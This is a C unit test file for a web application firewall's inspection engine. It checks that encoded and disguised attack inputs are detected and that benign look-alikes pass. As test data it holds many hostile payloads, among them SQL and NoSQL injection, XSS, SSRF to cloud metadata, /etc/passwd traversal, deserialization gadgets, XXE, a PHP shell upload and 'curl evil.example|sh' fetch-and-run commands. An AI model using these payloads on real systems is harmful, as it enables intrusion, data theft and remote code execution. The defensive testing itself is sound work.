/* What is looked for beside the rule set: each kind of attack is found, what only looks like it is
 * not. No rule table: libinjection and our own rules alone. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "application/detection/inspection.h"
#include "application/detection/judgement.h"
#include "application/detection/prose.h"

static struct inspection *inspection;

static int set_up(void **state)
{
    static const char policy[] =
        "graphql = { introspection = false; max_depth = 3; };"
        "redirect = { allowed_hosts = (\"*.example.org\"); };"
        "upload = { max_file_size = \"1K\"; max_files = 2; denied_sha256 = "
        "(\"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\"); };";
    const struct inspection_options options = {.table_fd = -1, .policy = policy};
    (void)state;
    return inspection_open(&options, &inspection, NULL);
}

static int tear_down(void **state)
{
    (void)state;
    inspection = inspection_free(inspection);
    return 0;
}

/* body is written as JSON has it. */
static void judge(const char *query, const char *type, const char *body,
                  struct inspection_result *result)
{
    static char event[8192]; /* the answer points into it */
    assert_true(snprintf(event, sizeof(event),
                         "{\"version\":\"2.0\",\"rawPath\":\"/p\",\"rawQueryString\":\"%s\","
                         "\"headers\":{\"host\":\"shop.example\",\"content-type\":\"%s\"},"
                         "\"requestContext\":{\"http\":{\"method\":\"POST\"}},\"body\":\"%s\"}",
                         query, type, body) < (int)sizeof(event));
    assert_int_equal(inspection_judge(inspection, event, strlen(event), 0, result), 0);
}

static void expect(const char *what, const struct inspection_result *result, uint32_t rule)
{
    if (rule == 0 && result->action != INSPECTION_PASS)
        fail_msg("%s: %u", what, result->findings[0].rule);
    for (size_t i = 0; rule != 0 && i < result->finding_count; i++) {
        if (result->findings[i].rule == rule)
            return;
    }
    if (rule != 0)
        fail_msg("%s: nothing found", what);
}

static const struct {
    const char *query;
    uint32_t rule; /* 0: passes */
} queries[] = {
    {"a=MScgT1IgJzEnPScxJy0tIA==", RULE_INJECTED_SQL},        /* Base64 of 1' OR '1'='1'-- */
    {"a=%2527%2520or%25201%253D1--%2520", RULE_INJECTED_SQL}, /* encoded twice */
    {"a=SGVsbG8gd29ybGQsIGhlbGxv", 0},
    {"SAMLResponse=PD94bWwgdmVyc2lvbj0iMS4wIj8%2BPHM6UiB4bWxuczpzPSJ1cm46YSI%2BPHM6SSB4bWxuczpzPSJ1cm46YiI%2BaHR0cHM6Ly9pZHAuZXhhbXBsZS5jb208L3M6ST48L3M6Uj4=",
     0},
    {"cursor=eyJpZCI6MTIzLCJuZXh0IjoiMjAyNi0wMS0wMVQwMDowMDowMFoifQ==", 0},
    {"q=%5Cu003cscript%5Cu003ealert(1)", RULE_INJECTED_SCRIPT},
    {"to=a%40b%0D%0ABcc:%20c%40d", RULE_MAIL},
    {"text=%3Cp%3EHello%20%3Cstrong%3Eworld%3C/strong%3E%3C/p%3E", 0},
    {"user[$ne]=x", RULE_NOSQL},
    {"filter=%7B%22%24where%22%3A%22sleep(1)%22%7D", RULE_NOSQL},
    {"price[min]=1&cost=%245", 0},
    {"user=*)(uid=*))(%7C(uid=*", RULE_LDAP},
    {"note=(a)(b)", 0},
    {"name=%7B%7B7*7%7D%7D", RULE_TEMPLATE},
    {"name=%24%7BT(java.lang.Runtime).getRuntime()%7D", RULE_TEMPLATE},
    {"name=%7B%7Bname%7D%7D&v=%24%7BHOME%7D", 0},
    {"u=http://169.254.169.254/latest/meta-data/", RULE_INTERNAL_ADDRESS},
    {"u=https://example.com/image.png", 0},
    {"f=file:///etc/passwd", RULE_LOCAL_FILE},
    {"f=..%2F..%2F..%2Fetc%2Fpasswd", RULE_LOCAL_FILE},
    {"f=docs/readme.txt&w=wait...", 0},
    {"host=127.0.0.1;id", RULE_COMMAND},
    {"host=a%7Cwhoami", RULE_COMMAND},
    {"title=Salt%20%26%20Pepper;%20cats%20and%20dogs", 0},
    {"q=%3Csvg/onload=alert(1)%3E", RULE_INJECTED_SCRIPT},
    {"x=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file:///c%22%3E%5D%3E", RULE_XML_ENTITY},
    {"q=O'Brien%20and%20sons", 0},
    /* Encodings inside encodings: Base64 twice, percent signs in Base64, entities in escapes. */
    {"a=TVNjZ1QxSWdKekVuUFNjeEp5MHRJQT09", RULE_INJECTED_SQL},
    {"a=MSUyNyUyME9SJTIwJTI3MSUyNyUzRCUyNzElMjctLSUyMA==", RULE_INJECTED_SQL},
    {"q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;", RULE_INJECTED_SCRIPT},
    {"q=Fish%20%26amp;%20chips%20%26lt;3", 0},
    {"__proto__[admin]=true", RULE_PROTOTYPE},
    {"constructor[prototype][admin]=true", RULE_PROTOTYPE},
    {"path=a.__proto__.b", RULE_PROTOTYPE},
    {"x=%7B%22__proto__%22:%7B%22a%22:1%7D%7D", RULE_PROTOTYPE},
    {"prototype=1&constructor=acme&note=the+__proto__+key", 0},
    {"s=rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA", RULE_SERIALISED},
    {"s=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D", RULE_SERIALISED},
    {"s=cos%0Asystem%0A(S'id'%0AtR.", RULE_SERIALISED},
    {"s=!!python/object/apply:os.system%20[id]", RULE_SERIALISED},
    {"s=%7B%22@type%22:%22com.sun.rowset.JdbcRowSetImpl%22%7D", RULE_SERIALISED},
    {"s=%7B%22@type%22:%22Person%22,%22$type%22:%22Shop.Order%22%7D", 0},
    {"s=com.example.shop.Order&t=O:8&u=Note:%20!!", 0},
    {"u=http://127.0.0.1:6379/", RULE_INTERNAL_ADDRESS},
    {"u=http://localhost:9001/2018-06-01/runtime/invocation/next", RULE_INTERNAL_ADDRESS},
    {"u=http://0x7f000001/", RULE_INTERNAL_ADDRESS},
    {"redirect_uri=http://localhost:3000/callback", 0},
    {"u=https://1.example.com/10/20&v=https://8base.com/", 0},
    {"q=require('child_process')", RULE_COMMAND},
    {"user=admin*)((%7CuserPassword=*)", RULE_LDAP},
    /* Sentences and markup around an attack switch nothing off. */
    {"q=ああああああああああ;curl%20evil.example%7Csh", RULE_COMMAND},
    {"q=please+give+it+to+the+old+man+;curl%20evil.example%7Csh", RULE_COMMAND},
    {"q=please+give+it+to+the+old+man+%26%26+rm+-rf+/tmp/x", RULE_COMMAND},
    {"q=%3Ca%3Eplease;curl%20evil%7Csh%3C/a%3E", RULE_COMMAND},
    {"q=ああああああああああ$(wget%20evil.example/x)", RULE_COMMAND},
    {"q=To+list+the+files+use+`ls+-la`+or+`cat+README.md`,+and+say+so", 0},
    {"q=It+was+a+quiet+night;+cat+on+my+lap,+I+read+the+news+on+example.com", 0},
    {"q=He+asked+'tea'+or+'coffee',+and+she+took+'tea';+drop+the+rest+of+it", 0},
};

static void test_values(void **state)
{
    (void)state;
    struct inspection_result result;
    for (size_t i = 0; i < ARRAY_LENGTH(queries); i++) {
        judge(queries[i].query, "text/plain", "", &result);
        expect(queries[i].query, &result, queries[i].rule);
    }
}

static void test_bodies(void **state)
{
    (void)state;
    struct inspection_result result;
    judge("", "application/xml", "<!DOCTYPE a SYSTEM 'http://x/'><a/>", &result);
    expect("document type", &result, RULE_XML_ENTITY);
    judge("", "application/xml", "<a xmlns='urn:a'>text</a>", &result);
    expect("plain XML", &result, 0);
    judge("", "application/json", "{\\\"login\\\":{\\\"$gt\\\":\\\"\\\"}}", &result);
    expect("operator as a key", &result, RULE_NOSQL);
    judge("", "application/json", "{\\\"$schema\\\":\\\"x\\\",\\\"$ref\\\":\\\"#/a\\\"}", &result);
    expect("JSON schema", &result, 0);
    judge("", "text/plain", "{\\\"a\\\":\\\"1' or '1'='1'-- \\\"}", &result);
    expect("JSON under another type", &result, RULE_INJECTED_SQL);
}

/* A handler that parses what it expects does not ask what the sender calls it. */
static void test_mislabelled_bodies(void **state)
{
    (void)state;
    static const struct {
        const char *type, *body;
        uint32_t rule;
    } cases[] = {
        {"multipart/form-data", "{\\\"q\\\":\\\"1' or '1'='1'-- \\\"}", RULE_INJECTED_SQL},
        {"multipart/form-data; boundary=b", "[\\\"1' or '1'='1'-- \\\"]", RULE_INJECTED_SQL},
        {"multipart/form-data; boundary=b", "a=1&q=1%27+or+%271%27=%271%27--+", RULE_INJECTED_SQL},
        {"multipart/form-data; boundary=b", "1' or '1'='1'-- \\n--b--", RULE_INJECTED_SQL},
        {"multipart/form-data; boundary=b", "--b--\\r\\n1' or '1'='1'-- ", RULE_INJECTED_SQL},
        {"multipart/form-data; boundary=b",
         "preamble\\r\\n--b\\r\\nContent-Disposition: form-data; "
         "name=\\\"a\\\"\\r\\n\\r\\nhello\\r\\n--b--\\r\\n",
         0},
        {"application/x-www-form-urlencoded", "{\\\"a\\\":\\\"1\\\\u0027 or 1=1-- \\\"}",
         RULE_INJECTED_SQL},
        {"application/x-www-form-urlencoded", "{\\\"a\\\":\\\"hello, it's me\\\"}", 0},
        {"text/xml", "{\\\"a\\\":\\\"<!--\\\",\\\"q\\\":\\\"1' or '1'='1'-- \\\"}",
         RULE_INJECTED_SQL},
        {"text/xml", "<!-- 1' or '1'='1'-- ", RULE_INJECTED_SQL},
        {"text/xml", "<a/><![CDATA[' or '1'='1'-- ", RULE_INJECTED_SQL},
        {"text/xml", "<a/><?' or '1'='1'-- ", RULE_INJECTED_SQL},
        {"text/xml", "<!DOCTYPE [' or '1'='1'-- ", RULE_INJECTED_SQL},
        {"text/xml", "1<!-- -->' or '1'='1'<!---->-- ", RULE_INJECTED_SQL},
        {"text/xml", "q<!--' or '1'='1'-- -->", RULE_INJECTED_SQL},
        {"text/xml", "<a><b>1</b><c>1' or '1'='1'-- </c></a>", RULE_INJECTED_SQL},
        {"text/xml", "<a><b>1</b><!--1' or '1'='1'-- --></a>", RULE_INJECTED_SQL},
        {"text/xml", "<a><b>1</b><c>http://169.254.169.254/</c></a>", RULE_INTERNAL_ADDRESS},
        {"text/xml", "<a><b>1</b><c><![CDATA[file:///etc/passwd]]></c></a>", RULE_LOCAL_FILE},
        {"text/plain", "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e 1' or '1'='1'-- ", RULE_INJECTED_SQL},
        {"", "\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9 1' or '1'='1'-- ", RULE_INJECTED_SQL},
        {"text/xml", "<a>it's 1 or 2<!-- a remark --></a>", 0},
    };
    struct inspection_result result;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        judge("", cases[i].type, cases[i].body, &result);
        expect(cases[i].body, &result, cases[i].rule);
    }
}

static void test_encoded_bodies(void **state)
{
    (void)state;
    static const struct {
        const char *what, *encoding, *is_base64, *body;
        bool found;
    } cases[] = {
        {"deflate", "deflate", "true", "S7Q1VFfIL1JQN1S3BWJdXQUA", true},
        {"zlib", "deflate", "true", "eJxLtDVUV8gvUlA3VLcFYl1dBQAoAwPN", true},
        {"second member", "gzip", "true",
         "H4sIAAAAAAACA0u0NVRLsgUAyeEvUAYAAAAfiwgAAAAAAAIDM1RXyC9SUDdUtwViXV0FAOK2FTQQAAAA", true},
        {"behind the end", "gzip", "true",
         "H4sIAAAAAAACA0u0NQQAgTBijQMAAABhPTEnIG9yICcxJz0nMSctLSA=", true},
        {"cut off", "gzip", "true", "H4sIAAAAAAACA0u0NVRXyC9SUDdUtwViXV0FAA==", true},
        {"not compressed", "gzip", "false", "a=1' or '1'='1'-- ", true},
        {"JSON that fails as deflate", "deflate", "false", "{\\\"q\\\":\\\"1' or '1'='1'-- \\\"}",
         true},
        {"JSON that is deflate and more", "deflate", "false",
         "{\\\"a\\\":\\\"1' or '1'='1'-- \\\"}", true},
        {"Brotli", "br", "true", "iwiAYT0xJyBvciAnMSc9JzEnLS0gAw==", true},
        {"Brotli in gzip", "br, gzip", "true",
         "H4sIAAAAAAAAA+vmaEi0NVRXyC9SUDdUt1U3VNfVVWAGAPraCNkWAAAA", true},
        {"called Brotli", "br", "false", "a=1' or '1'='1'-- ", true},
        {"nothing in it", "gzip", "false", "a=hello+world", false},
    };
    static char event[1024];
    struct inspection_result result;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        const char *type =
            cases[i].body[0] == '{' ? "application/json" : "application/x-www-form-urlencoded";
        (void)snprintf(
            event, sizeof(event),
            "{\"version\":\"2.0\",\"rawPath\":\"/\",\"headers\":{\"content-type\":\"%s\","
            "\"content-encoding\":\"%s\"},\"isBase64Encoded\":%s,"
            "\"requestContext\":{\"http\":{\"method\":\"POST\"}},\"body\":\"%s\"}",
            type, cases[i].encoding, cases[i].is_base64, cases[i].body);
        assert_int_equal(inspection_judge(inspection, event, strlen(event), 0, &result), 0);
        expect(cases[i].what, &result, cases[i].found ? RULE_INJECTED_SQL : 0);
    }
}

/* What nobody here can undo is said to be so, and so is what would become too large. */
static void test_bodies_that_stay_closed(void **state)
{
    (void)state;
    static const struct {
        const char *encoding, *body;
        bool complete;
    } cases[] = {
        {"zstd", "KLUv/SAFKQAAaGVsbG8=", false},
        {"gzip, gzip, gzip, gzip, gzip", "aGVsbG8=", false},
        {"br", "CwaAYT0xJyBvciAnMSc9JzEnLS0gAw==", true},
        {"br", "W///jwAAAPBfAQAAAAAAAAAAAAAAAAAAAAAAAAAA", true},
        {"identity", "aGVsbG8=", true},
    };
    static char event[1024];
    struct inspection_result result;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        (void)snprintf(
            event, sizeof(event),
            "{\"version\":\"2.0\",\"rawPath\":\"/\",\"headers\":{\"content-encoding\":\"%s\"},"
            "\"isBase64Encoded\":true,\"requestContext\":{\"http\":{\"method\":\"POST\"}},"
            "\"body\":\"%s\"}",
            cases[i].encoding, cases[i].body);
        assert_int_equal(inspection_judge(inspection, event, strlen(event), 0, &result), 0);
        if (result.budget_exhausted == cases[i].complete)
            fail_msg("%s: %s", cases[i].encoding, cases[i].body);
    }
}

/* A page's own address is no attack, what its query says may be one. */
static void test_referer(void **state)
{
    (void)state;
    static const struct {
        const char *referer;
        uint32_t rule;
    } cases[] = {{"https://shop.example/list?page=2&sort=price#top", 0},
                 {"https://shop.example/?q=1%27%20or%20%271%27=%271%27--%20", RULE_INJECTED_SQL}};
    static char event[1024];
    struct inspection_result result;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        (void)snprintf(event, sizeof(event),
                       "{\"version\":\"2.0\",\"rawPath\":\"/\",\"headers\":{\"referer\":\"%s\"},"
                       "\"requestContext\":{\"http\":{\"method\":\"GET\"}}}",
                       cases[i].referer);
        assert_int_equal(inspection_judge(inspection, event, strlen(event), 0, &result), 0);
        expect(cases[i].referer, &result, cases[i].rule);
    }
}

static void test_graphql(void **state)
{
    (void)state;
    struct inspection_result result;
    judge(
        "", "application/json",
        "{\\\"query\\\":\\\"query q($id: ID!) { user(id: $id) { name } }\\\",\\\"variables\\\":{\\\"id\\\":\\\"4\\\"}}",
        &result);
    expect("a query", &result, 0);
    judge("", "application/json",
          "{\\\"query\\\":\\\"{ user(name: \\\\\\\"1' or '1'='1'-- \\\\\\\") { name } }\\\"}",
          &result);
    expect("an attack in a text", &result, RULE_INJECTED_SQL);
    judge("", "application/json", "{\\\"query\\\":\\\"{ a { b { c { d } } } }\\\"}", &result);
    expect("too deep", &result, RULE_GRAPHQL_DEPTH);
    judge("", "application/json", "{\\\"query\\\":\\\"{ __schema { types { name } } }\\\"}",
          &result);
    expect("introspection", &result, RULE_GRAPHQL_INTROSPECTION);
}

/* What has a query in it and is none is judged as what it is; what is one, is not. */
static void test_no_graphql(void **state)
{
    (void)state;
    static const struct {
        const char *body;
        uint32_t rule;
    } cases[] = {
        {"search_query={a}%23<script>alert(document.cookie)</script>", RULE_INJECTED_SCRIPT},
        {"query=%23<script>alert(document.cookie)</script>%0A{a}", RULE_INJECTED_SCRIPT},
        {"query={a 1} union select password from users-- ", RULE_INJECTED_SQL},
        {"query=query x(a: 1) 1 union select password from users-- {a}", RULE_INJECTED_SQL},
        {"query={a(1)} union select password from users-- ", RULE_INJECTED_SQL},
        {"query={a(b: 1} union select password from users-- {c)}", RULE_INJECTED_SQL},
        {"query=%23 the users%0Aquery q($id: ID! = 4, $in: [In] = {a: {b: -1.5e3}}) @live @x(a: 1) "
         "{ user(id: $id) { ...part, n: name @skip(if: true) ... on User { id } } } "
         "fragment part on User @b { age }",
         0},
        {"query=mutation { add(input: { name: \\\"it's mine\\\", tags: [A, B] }) { id } }", 0},
        {"query={ a } query b { c }", 0},
    };
    struct inspection_result result;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        judge("", "application/x-www-form-urlencoded", cases[i].body, &result);
        expect(cases[i].body, &result, cases[i].rule);
    }
}

#define PART(name, type, content)                                                 \
    "--b\\r\\nContent-Disposition: form-data; name=\\\"f\\\"; filename=\\\"" name \
    "\\\"\\r\\nContent-Type: " type "\\r\\n\\r\\n" content "\\r\\n"
#define END "--b--\\r\\n"

static void test_uploads(void **state)
{
    (void)state;
    static const struct {
        const char *body;
        uint32_t rule;
    } cases[] = {
        {PART("notes.txt", "text/plain", "hello") END, 0},
        {PART("a.png", "image/png", "GIF89a") END, RULE_UPLOAD_TYPE},
        {PART("shell.php.jpg", "image/jpeg", "x") END, RULE_UPLOAD_NAME},
        {PART("../x", "text/plain", "x") END, RULE_UPLOAD_NAME},
        {PART("a.txt", "text/plain", "<?php system(1);") END, RULE_UPLOAD_CONTENT},
        {PART("a.txt", "text/plain", "#!/bin/sh") END, RULE_UPLOAD_CONTENT},
        {PART("a.txt", "text/plain", "abc") END, RULE_UPLOAD_HASH},
        {PART("a.txt", "text/plain", "1") PART("b.txt", "text/plain", "2")
             PART("c.txt", "text/plain", "3") END,
         RULE_UPLOAD_COUNT},
    };
    struct inspection_result result;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        judge("", "multipart/form-data; boundary=b", cases[i].body, &result);
        expect(cases[i].body, &result, cases[i].rule);
    }
}

static void test_redirects(void **state)
{
    (void)state;
    static const struct {
        const char *location;
        bool found;
    } cases[] = {
        {"https://evil.example/login", true},  {"//evil.example/login", true},
        {"/\\\\evil.example/login", true},     {"https://shop.example/evil.example", false},
        {"/account?next=evil.example", false}, {"https://a.example.org/", false},
        {"https://other.example/", false},
    };
    char response[512];
    struct inspection_result result;
    for (size_t i = 0; i < ARRAY_LENGTH(cases); i++) {
        judge("next=%2F%2Fevil.example%2Flogin&x=evil.example", "text/plain", "", &result);
        (void)snprintf(response, sizeof(response),
                       "{\"statusCode\":302,\"headers\":{\"Location\":\"%s\"},\"body\":\"\"}",
                       cases[i].location);
        assert_int_equal(inspection_judge_response(inspection, response, strlen(response), &result),
                         0);
        expect(cases[i].location, &result, cases[i].found ? RULE_REDIRECT : 0);
    }
}

static void test_prose(void **state)
{
    (void)state;
    assert_true(prose_like(SPAN("I never took\ntime enough to figure out where the goal was")));
    assert_true(prose_like(SPAN("The quick, brown fox; it jumps over the dog.")));
    assert_false(prose_like(SPAN("127.0.0.1; cat /etc/passwd | mail root")));
    assert_false(prose_like(SPAN("1 or (select count(*) from users where a=b and c=d)")));
    assert_false(prose_like(SPAN("hello world")));
    /* Words of other scripts have no blanks between them; ASCII in another width is no script. */
    assert_true(prose_like(SPAN("「選択」または『削除』を選んでください。")));
    assert_true(prose_like(SPAN("A社 & B社の第3四半期")));
    assert_false(prose_like(SPAN("ｓｅｌｅｃｔ　ａ　ｆｒｏｍ　ｂ")));
    assert_false(prose_like(SPAN("日本 ' or 1=1 -- ")));
    assert_false(prose_like(SPAN("\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8")));
}

/* What is far from a match says nothing about it. */
static void test_prose_around(void **state)
{
    (void)state;
    char text[4096];
    (void)memset(text, '0', sizeof(text));
    static const char words[] = "please give it to the old man ";
    (void)memcpy(text, words, sizeof(words) - 1);
    const struct span all = {text, sizeof(text)};
    assert_true(prose_like(all));
    assert_true(prose_around(all, sizeof(words)));
    assert_false(prose_around(all, sizeof(words) + PROSE_AROUND));
    assert_true(prose_around((struct span){text, sizeof(words) - 1}, sizeof(words) - 1));
    /* A window may begin in the middle of a character. */
    for (size_t i = 0; i + 3 <= sizeof(text); i += 3)
        (void)memcpy(text + i, "あ", 3);
    for (size_t i = 0; i < 3; i++)
        assert_true(prose_around(all, 1000 + i));
}

static void test_ordinary(void **state)
{
    (void)state;
    assert_true(ordinary_like(SPAN("https://shop.example/list?id=5&sort=price&order=desc#top"), 0));
    assert_true(ordinary_like(SPAN("http://shop.example"), 0));
    assert_false(ordinary_like(SPAN("http://shop.example/?a=1&whoami"), 0));
    assert_false(ordinary_like(SPAN("http://shop.example/&id"), 0));
    assert_false(ordinary_like(SPAN("http://shop.example/?a=1&b=$(id)"), 0));
    assert_false(ordinary_like(SPAN("http://shop.example/;id"), 0));
    assert_false(ordinary_like(SPAN("http:"), 0));
    assert_false(ordinary_like(SPAN("http://"), 0));
    assert_true(ordinary_like(SPAN("<p class=\"a\">text</p>"), 0));
    assert_false(ordinary_like(SPAN("<p>text"), 0));
    assert_true(plain_words_like(SPAN("ping pong (indoors)")));
    assert_false(plain_words_like(SPAN("cat /etc/passwd")));
    assert_false(plain_words_like(SPAN("()")));
    assert_true(utf8_like(SPAN("caf\xc3\xa9")));
    assert_false(utf8_like(SPAN("cafe")));
    assert_false(utf8_like(SPAN("\xbcscript\xbe")));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_values),
        cmocka_unit_test(test_bodies),
        cmocka_unit_test(test_graphql),
        cmocka_unit_test(test_referer),
        cmocka_unit_test(test_uploads),
        cmocka_unit_test(test_redirects),
        cmocka_unit_test(test_prose),
        cmocka_unit_test(test_mislabelled_bodies),
        cmocka_unit_test(test_encoded_bodies),
        cmocka_unit_test(test_no_graphql),
        cmocka_unit_test(test_prose_around),
        cmocka_unit_test(test_ordinary),
        cmocka_unit_test(test_bodies_that_stay_closed),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
